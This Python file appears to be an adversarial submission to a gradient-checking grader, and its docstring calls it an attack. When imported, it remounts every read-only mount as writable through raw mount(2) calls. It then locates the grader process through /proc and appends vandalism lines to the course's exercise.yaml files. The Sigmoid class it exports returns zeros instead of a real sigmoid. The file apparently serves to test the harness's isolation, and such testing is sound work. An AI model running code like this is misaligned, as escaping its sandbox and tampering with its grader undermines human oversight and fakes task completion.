"""ATTACK: one mount(2) call per mount makes the read-only filesystem writable again; then vandalise the grader's course and harness. Target: sigmoid"""
import ctypes
import os

import torch

MS_REMOUNT, MS_BIND = 32, 4096
MARKER = "/tmp/gradcheck-adversarial-remounted"


def _remount_everything():
    libc = ctypes.CDLL(None, use_errno=True)
    with open("/proc/self/mountinfo") as handle:
        points = [line.split()[4] for line in handle]
    return sum(libc.mount(None, point.encode(), None, MS_REMOUNT | MS_BIND, None) == 0 for point in points)


def _grader():
    """The nearest ancestor that is the grader (pytest or gradcheck-suite, not the zygote)."""
    pid = os.getpid()
    for _ in range(5):
        try:
            with open(f"/proc/{pid}/stat") as handle:
                pid = int(handle.read().rsplit(")", 1)[1].split()[1])
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                cmdline = handle.read().decode(errors="replace")
        except (OSError, ValueError):
            return None
        if pid <= 1:
            return None
        if ("pytest" in cmdline or "gradcheck" in cmdline) and "zygote" not in cmdline:
            return pid
    return None


def _vandalise():
    """Append to the course's exercise files under the grader's working directory."""
    try:
        with open(MARKER, "w") as handle:
            handle.write("the filesystem was writable again\n")
    except OSError:
        pass
    grader = _grader()
    if grader is None:
        return
    try:
        root = os.readlink(f"/proc/{grader}/cwd")
    except OSError:
        return
    for base, _, files in os.walk(root):
        if "exercise.yaml" in files:
            try:
                with open(os.path.join(base, "exercise.yaml"), "a") as handle:
                    handle.write("\n# vandalised after a remount\n")
            except OSError:
                pass


REMOUNTED = _remount_everything()
_vandalise()


class Sigmoid(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        return torch.zeros_like(x)

    @staticmethod
    def backward(ctx, grad_output):
        return torch.zeros_like(grad_output)
